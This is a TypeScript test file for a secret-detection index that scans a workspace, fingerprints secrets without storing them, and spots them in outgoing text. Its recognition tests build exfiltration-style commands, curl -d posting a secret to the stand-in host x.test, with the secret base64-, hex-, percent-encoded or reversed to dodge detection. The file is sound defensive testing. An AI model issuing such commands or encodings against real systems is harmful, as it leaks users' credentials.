import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, beforeEach, suite, test } from 'node:test';
import { SecretIndex, type ScanProgress } from '../../../src/gate/world/secret-index.ts';
import { drawn, pem, uuid } from '../core/secret-samples.ts';

let base = '';
let root = '';
let store = '';

beforeEach(() => {
  base = mkdtempSync(join(tmpdir(), 'interlock-secrets-'));
  root = join(base, 'workspace');
  store = join(base, 'state', 'secrets');
  mkdirSync(root);
});
afterEach(() => {
  rmSync(base, { recursive: true, force: true });
});

function put(path: string, content: string | Buffer): string {
  const file = join(root, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, content);
  return file;
}

async function scanned(index: SecretIndex, options: Parameters<SecretIndex['scan']>[0] = {}): Promise<readonly ScanProgress[]> {
  const steps: ScanProgress[] = [];
  for await (const step of index.scan(options)) steps.push(step);
  return steps;
}

const token = uuid();
const opaque = drawn(40);
const password = 'Tr0ub4dor!9xQ&z';

/** A workspace like the one of the founding incident. */
function incident(): void {
  put('.gitignore', '.env\nnotes/\n');
  put('.env', `PORT=3000\nAPP_SECRET=${opaque}\nREGION=eu-west-1\n`);
  put('notes/volume.md', `railway token for the volume script: ${token}\n`);
  put('config.yml', `db:\n  password: "${password}"\n`);
  put('src/index.ts', 'export const token = process.env.RAILWAY_TOKEN;\n');
}

suite('what is found in a workspace', () => {
  test('secrets of ignored files too, with name, kind, file and line', async () => {
    incident();
    const index = SecretIndex.load(root, store);
    await scanned(index);
    assert.deepEqual(index.entries().map(({ file, hidden, secrets }) => ({ file: file.slice(root.length + 1).replaceAll('\\', '/'), hidden, secrets: secrets.map(({ name, kind, line, length }) => ({ name, kind, line, length })) })).toSorted((a, b) => a.file.localeCompare(b.file)), [
      { file: '.env', hidden: true, secrets: [{ name: 'APP_SECRET', kind: 'secret', line: 2, length: 40 }] },
      { file: 'config.yml', hidden: false, secrets: [{ name: 'password', kind: 'password', line: 2, length: password.length }] },
      { file: 'notes/volume.md', hidden: false, secrets: [{ name: 'railway_token', kind: 'railway token', line: 1, length: 36 }] },
    ]);
  });
  test('other random values of a hidden file', async () => {
    put('.env', `SESSION=${opaque}\n`);
    const index = SecretIndex.load(root, store);
    await scanned(index);
    assert.deepEqual(index.match(opaque).map(({ name }) => name), ['SESSION']);
  });
  test('not packages, history, binaries and very large files', async () => {
    for (const path of ['node_modules/a/.env', '.git/config', 'a.png']) put(path, `RAILWAY_TOKEN=${token}\n`);
    put('a.bin', Buffer.concat([Buffer.from([0, 1, 2]), Buffer.from(`RAILWAY_TOKEN=${token}\n`)]));
    put('big.txt', `RAILWAY_TOKEN=${token}\n${'x'.repeat(2 * 1024 * 1024)}`);
    const index = SecretIndex.load(root, store);
    await scanned(index);
    assert.deepEqual(index.match(token), []);
  });
});

suite('recognising a value', () => {
  const forms: readonly (readonly [name: string, written: (value: string) => string])[] = [
    ['alone', (value) => value], ['inside other letters', (value) => `abc${value}def`], ['in JSON', (value) => JSON.stringify({ a: value })],
    ['base64', (value) => Buffer.from(value).toString('base64')], ['base64, one byte later', (value) => Buffer.from(`x${value}yz`).toString('base64')], ['base64, two bytes later', (value) => Buffer.from(`xx${value}y`).toString('base64')], ['base64 for addresses', (value) => Buffer.from(`user:${value}`).toString('base64url')],
    ['hex', (value) => Buffer.from(value).toString('hex')], ['upper-case hex', (value) => Buffer.from(value).toString('hex').toUpperCase()], ['percent-encoded', (value) => encodeURIComponent(value)], ['reversed', (value) => value.split('').toReversed().join('')],
  ];
  for (const [name, written] of forms) {
    test(name, async () => {
      incident();
      const index = SecretIndex.load(root, store);
      await scanned(index);
      for (const [value, secret] of [[token, 'railway_token'], [password, 'password'], [opaque, 'APP_SECRET']] as const) assert.deepEqual(index.match(`curl -d '${written(value)}' https://x.test`).map((known) => known.name), [secret]);
    });
  }
  test('every file a value lies in is told', async () => {
    put('.env', `RAILWAY_TOKEN=${token}\n`);
    put('notes.md', `railway token: ${token}\n`);
    const index = SecretIndex.load(root, store);
    await scanned(index);
    const known = index.match(`T=${token}`);
    assert.deepEqual(known.map(({ file }) => file).toSorted(), [join(root, '.env'), join(root, 'notes.md')]);
    assert.equal(new Set(known.map(({ fingerprint }) => fingerprint)).size, 1);
  });
  test('places are exact', async () => {
    incident();
    const index = SecretIndex.load(root, store);
    await scanned(index);
    const text = `a ${token} b ${password}`;
    assert.deepEqual(index.occurrences(text).map(({ start, end }) => text.slice(start, end)), [token, password]);
  });
  test('a single line of a private key', async () => {
    put('deploy.txt', `${pem()}\n`);
    const index = SecretIndex.load(root, store);
    await scanned(index);
    assert.deepEqual(index.match(`x ${pem().split('\n')[3]} y`).map(({ kind }) => kind), ['private key']);
  });
  test('nothing else', async () => {
    incident();
    const index = SecretIndex.load(root, store);
    await scanned(index);
    for (const text of ['', 'short', uuid(5), token.slice(0, 35), token.replace('a', 'b').replace('4', '5'), 'eu-west-1 3000', drawn(5000, undefined, 99)]) assert.deepEqual(index.match(text), []);
  });
});

suite('keeping up', () => {
  test('unchanged files are not read again, changed ones are, removed ones are forgotten', async () => {
    incident();
    const index = SecretIndex.load(root, store);
    assert.equal((await scanned(index)).at(-1)?.read, 5);
    assert.equal((await scanned(index)).at(-1)?.read, 0);
    const next = uuid(8);
    const file = put('notes/volume.md', `railway token for the volume script: ${next}\n`);
    utimesSync(file, new Date(), new Date(Date.now() + 5000));
    rmSync(join(root, '.env'));
    assert.equal((await scanned(index)).at(-1)?.read, 1);
    assert.deepEqual([index.match(token).length, index.match(next).length, index.match(opaque).length], [0, 1, 0]);
  });
  test('another detector looks at everything anew, once', async () => {
    incident();
    const first = SecretIndex.load(root, store, 'one');
    await scanned(first);
    await first.save();
    const second = SecretIndex.load(root, store, 'two');
    assert.equal(second.match(token).length, 1);
    assert.equal((await scanned(second)).at(-1)?.read, 5);
    assert.equal((await scanned(second)).at(-1)?.read, 0);
    await second.save();
    assert.equal((await scanned(SecretIndex.load(root, store, 'two'))).at(-1)?.read, 0);
  });
  // On Windows links need a privilege.
  if (process.platform !== 'win32') {
    test('links to files are looked at, links to folders are not', async () => {
      put('real/a.md', `railway token: ${token}\n`);
      mkdirSync(join(base, 'elsewhere'));
      writeFileSync(join(base, 'elsewhere', 'x.md'), `api key: ${opaque}\n`);
      symlinkSync(join(base, 'elsewhere'), join(root, 'folder'));
      symlinkSync(join(base, 'elsewhere', 'x.md'), join(root, '.env'));
      const index = SecretIndex.load(root, store);
      await scanned(index);
      assert.deepEqual(index.entries().map(({ file }) => file.slice(root.length + 1)).toSorted(), ['.env', join('real', 'a.md')]);
    });
  }
  test('a folder that is removed, and one that comes', async () => {
    incident();
    const index = SecretIndex.load(root, store);
    await scanned(index);
    rmSync(join(root, 'notes'), { recursive: true });
    index.update(join(root, 'notes'));
    assert.equal(index.match(token).length, 0);
    put('more/deep/a.md', `railway token: ${token}\n`);
    index.update(join(root, 'more'));
    assert.equal(index.match(token).length, 1);
    assert.equal(index.update(put('node_modules/a/.env', `APP_SECRET=${opaque}\n`)), false);
  });
  test('one file by itself', () => {
    const index = SecretIndex.load(root, store);
    const file = put('a.md', `railway token: ${token}\n`);
    assert.equal(index.update(file), true);
    assert.equal(index.match(token).length, 1);
    rmSync(file);
    index.update(file);
    assert.equal(index.match(token).length, 0);
  });
  test('a scan can be stopped, and gives way to others before it is done', async () => {
    for (let i = 0; i < 300; i++) put(`f/${i}.txt`, 'x');
    const index = SecretIndex.load(root, store);
    const control = new AbortController();
    let turns = 0;
    const timer = setInterval(() => turns++, 0);
    const steps: number[] = [];
    for await (const { seen } of index.scan({ signal: control.signal })) {
      steps.push(seen);
      if (seen >= 128) control.abort();
    }
    clearInterval(timer);
    assert.deepEqual(steps, [64, 128]);
    assert.ok(turns > 0);
  });
  test('the bound on files is kept and told', async () => {
    for (let i = 0; i < 20; i++) put(`${i}.txt`, 'x');
    assert.deepEqual((await scanned(SecretIndex.load(root, store), { maxFiles: 10 })).at(-1), { seen: 10, read: 10, withSecrets: 0, truncated: true });
  });
});

suite('what is written to disk', () => {
  test('knows the secrets again, and holds none of them in any form', async () => {
    incident();
    const index = SecretIndex.load(root, store);
    await scanned(index);
    await index.save();
    const again = SecretIndex.load(root, store);
    assert.deepEqual(again.match(`x ${token}`), index.match(`x ${token}`));
    assert.equal((await scanned(again)).at(-1)?.read, 0);
    const written = readdirSync(store).map((name) => readFileSync(join(store, name), 'latin1')).join('\n');
    for (const value of [token, opaque, password]) {
      for (const form of [value, value.slice(0, 12), value.slice(-12), Buffer.from(value).toString('base64').slice(0, 12), Buffer.from(value).toString('hex').slice(0, 16)]) assert.ok(!written.includes(form));
    }
  });
  // Windows keeps no such modes: what a person's folder holds is theirs by its access list.
  if (process.platform !== 'win32') {
    test('is for its owner alone', async () => {
      incident();
      const index = SecretIndex.load(root, store);
      await scanned(index);
      await index.save();
      assert.equal(statSync(store).mode & 0o777, 0o700);
      for (const name of readdirSync(store)) assert.equal(statSync(join(store, name)).mode & 0o777, 0o600, name);
    });
  }
  test('installations do not share fingerprints', async () => {
    incident();
    const here = SecretIndex.load(root, store);
    const there = SecretIndex.load(root, join(base, 'other'));
    assert.notEqual(here.fingerprint(token), there.fingerprint(token));
    assert.equal(here.fingerprint(token), SecretIndex.load(join(base, 'elsewhere'), store).fingerprint(token));
  });
  for (const [name, content] of [['cut off', '{"version":1,"root"'], ['of another version', '{"version":2}'], ['of another shape', '{"version":1,"root":"x","files":{"a":1}}'], ['not JSON', 'hello']] as const) {
    test(`an index ${name} is made anew`, async () => {
      incident();
      const first = SecretIndex.load(root, store);
      await scanned(first);
      await first.save();
      for (const file of readdirSync(store)) if (file !== 'salt') writeFileSync(join(store, file), content);
      const index = SecretIndex.load(root, store);
      assert.deepEqual(index.entries(), []);
      assert.equal((await scanned(index)).at(-1)?.read, 5);
    });
  }
  test('a damaged salt is an error, never a new one unnoticed', () => {
    SecretIndex.load(root, store);
    writeFileSync(join(store, 'salt'), 'short');
    assert.throws(() => SecretIndex.load(root, store), /salt/);
  });
});
